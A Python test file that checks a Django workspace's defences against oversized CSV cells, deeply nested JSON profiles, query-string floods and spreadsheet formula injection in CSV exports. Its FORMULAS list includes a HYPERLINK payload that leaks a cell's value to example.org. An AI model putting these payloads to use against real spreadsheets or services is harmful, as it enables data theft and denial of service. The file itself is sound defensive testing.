"""Hostile input to the workspace: a CSV cell past csv's own limit, a profile nested 10,000
deep in a CSV cell or the case form, an address past the finder's bounds in the new case
form's prefill, and CSV exports that a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from pathways.web.finder import answers
from pathways.web.workspace import imports
from pathways.web.workspace.models import Case, Exchange, Partner
from pathways.web.workspace.spreadsheet import cell, csv_text

from .conftest import STUDENT

pytestmark = [pytest.mark.security, pytest.mark.usefixtures("rollback")]

HEADER = "trainee_name,home_country,stage,pathway_id,profile,starts,evaluated_on\n"
GOOD_PROFILE = json.dumps(STUDENT).replace('"', '""')
DEEP = "[" * 10_000 + "]" * 10_000


def _upload(client, text: str, kind: str = "cases", **extra):
    return client.post(f"/workspace/import/{kind}/",
                       {"file": SimpleUploadedFile(f"{kind}.csv", text.encode(), content_type="text/csv"), **extra})


def _row(name="Aisha Nakato", profile=GOOD_PROFILE) -> str:
    return f'{name},UG,student,b1-elective,"{profile}",2027-06-01,2026-03-01\n'


def _errors(page: str) -> list[tuple[str, str, str]]:
    import re
    from html import unescape

    return [tuple(unescape(c) for c in m) for m in re.findall(r"<tr><td>(\d+)</td><td>([^<]*)</td><td>([^<]*)</td></tr>", page)]


# --- CSV import: sizes ------------------------------------------------------------------


def test_a_cell_past_csv_s_own_limit_is_a_row_error_naming_the_row_and_the_column(client, coordinator):
    text = HEADER + _row() + _row(name="x" * 131_073) + _row(name="Claire Tremblay")
    response = _upload(client, text)
    assert response.status_code == 400  # it was a 500 (csv.Error: field larger than field limit)
    assert _errors(response.content.decode()) == [("3", "trainee_name", "131,073 characters; accepted: at most 1,000")]
    assert not Case.objects.filter(institution=coordinator.institution).exists()
    response = _upload(client, text, import_valid_rows="1")
    assert response.status_code == 200
    assert sorted(Case.objects.values_list("trainee_name", flat=True)) == ["Aisha Nakato", "Claire Tremblay"]


def test_a_profile_cell_longer_than_a_profile_can_be_is_named_with_its_limit(client):
    response = _upload(client, HEADER + _row(profile="x" * 100_001))
    assert _errors(response.content.decode()) == [("2", "profile", "100,001 characters; accepted: at most 100,000")]


def test_a_trainee_name_longer_than_the_database_keeps_is_a_row_error(client):
    response = _upload(client, HEADER + _row(name="y" * 201))
    assert ("2", "trainee_name", "201 characters; accepted: at most 200") in _errors(response.content.decode())


def test_an_upload_over_5_mb_is_refused_whole_with_a_clear_message(client):
    response = _upload(client, HEADER + _row() * (5 * 1024 * 1024 // len(_row()) + 1))
    assert response.status_code == 400
    assert "The file is larger than 5 MB." in response.content.decode()
    # the importers refuse it too, for their other callers (the text is already decoded there)
    result = imports.import_cases(None, None, "x" * (imports.MAX_FILE_CHARS + 1))
    assert [(e.row, e.field) for e in result.errors] == [(1, "(file)")]
    assert "accepted: at most 5,242,880" in result.errors[0].message


# --- nesting: the CSV import and the case form ---------------------------------------------


@pytest.mark.parametrize("profile", [DEEP, '{""citizenships"": ' + DEEP + "}", "{citizenships: " + DEEP + "}",
                                     '{""host"": ' + "[" * 40 + "]" * 40 + "}"])
def test_a_profile_cell_nested_too_deep_is_a_row_error_naming_the_limit(client, profile):
    response = _upload(client, HEADER + _row(profile=profile))
    assert response.status_code == 400  # it was a 500 (RecursionError)
    [(row, column, message)] = _errors(response.content.decode())
    assert (row, column) == ("2", "profile") and "nested deeper than 32 levels" in message


def _nested(levels: int) -> list:
    value: list = []
    for _ in range(levels - 1):
        value = [value]
    return value


@pytest.mark.parametrize("profile", [DEEP, "citizenships: " + DEEP, "citizenships: " + "[" * 900 + "]" * 900,
                                     "citizenships: " + "[" * 40 + "]" * 40,
                                     json.dumps({"citizenships": ["UG"], "host": {"x": _nested(40)}})])
def test_the_case_form_refuses_a_profile_nested_too_deep_naming_the_limit(client, coordinator, profile):
    response = client.post("/workspace/cases/new/", {
        "trainee_name": "Aisha Nakato", "trainee_email": "", "home_country": "UG", "stage": "student",
        "pathway_id": "b1-elective", "profile": profile, "evaluated_on": "2026-03-01", "starts": "", "ends": ""})
    assert response.status_code == 400
    assert "nested deeper than 32 levels" in response.content.decode()
    assert not Case.objects.filter(institution=coordinator.institution).exists()


# --- the new case form's prefill reads the address as the finder does ------------------------


def test_the_prefill_refuses_a_flood_of_parameters_naming_the_bound(client):
    response = client.get("/workspace/cases/new/?" + "&".join(f"f{i}=x" for i in range(16_000)))
    assert response.status_code == 400
    assert "(query string): 132,889 characters; accepted: at most 20,000" in response.content.decode()
    response = client.get("/workspace/cases/new/?" + "&".join(f"f{i}" for i in range(1_001)))
    assert response.status_code == 400
    assert "1,001 parameters; accepted: at most 1,000" in response.content.decode()


def test_the_prefill_refuses_packed_answers_past_the_bounds(client):
    packed = answers.pack("&".join(["a"] * 1_001))  # short packed, too many unpacked
    response = client.get(f"/workspace/cases/new/?answers={packed}&pathway=b1-elective")
    assert response.status_code == 400 and "1,001 parameters" in response.content.decode()
    packed = answers.pack("&".join(f"f{i}" for i in range(1_001)))  # long packed: the parameter itself
    response = client.get(f"/workspace/cases/new/?answers={packed}&pathway=b1-elective")
    assert response.status_code == 400
    assert "answers: its value is 2,506 characters long; accepted: at most 2,000" in response.content.decode()
    # answers that a result page did not pack: the form, empty, as before
    assert client.get("/workspace/cases/new/?answers=not-packed").status_code == 200


def test_the_prefill_still_reads_packed_answers_within_the_bounds(client):
    packed = answers.pack("stage=student&citizenships=UG&host.dean_approved_elective=true")
    page = client.get(f"/workspace/cases/new/?answers={packed}&pathway=b1-elective").content.decode()
    assert "dean_approved_elective: true" in page and 'name="home_country" value="UG"' in page


# --- CSV exports: formulas stay text ------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://example.org/?leak="&A1, "Open")', "+1+2", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]


def test_the_reciprocity_csv_neutralises_every_cell_a_spreadsheet_would_run(client, coordinator):
    for year, name in enumerate(FORMULAS + ["Makerere University"], start=2020):
        partner = Partner.objects.create(institution=coordinator.institution, name=name, country="UG")
        Exchange.objects.create(institution=coordinator.institution, partner=partner, direction="inbound", year=year,
                                heads=1, trainee_weeks=Decimal("-4"), usd=Decimal("6000"))
    response = client.get("/workspace/reciprocity.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted(r["partner"] for r in rows) == sorted(["'" + f for f in FORMULAS] + ["Makerere University"])
    assert all(r["inbound_weeks"].startswith("-4") for r in rows)  # a number is a number, not a formula


def test_one_helper_neutralises_text_and_leaves_numbers():
    assert [cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", "", " =1")] == \
        ["'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=1", "", " =1"]
    assert [cell(v) for v in (-3, Decimal("-2.5"), -1.5, None)] == [-3, Decimal("-2.5"), -1.5, None]
    assert list(csv.reader(io.StringIO(csv_text(["=h"], [["=x", 1]])))) == [["'=h"], ["'=x", "1"]]
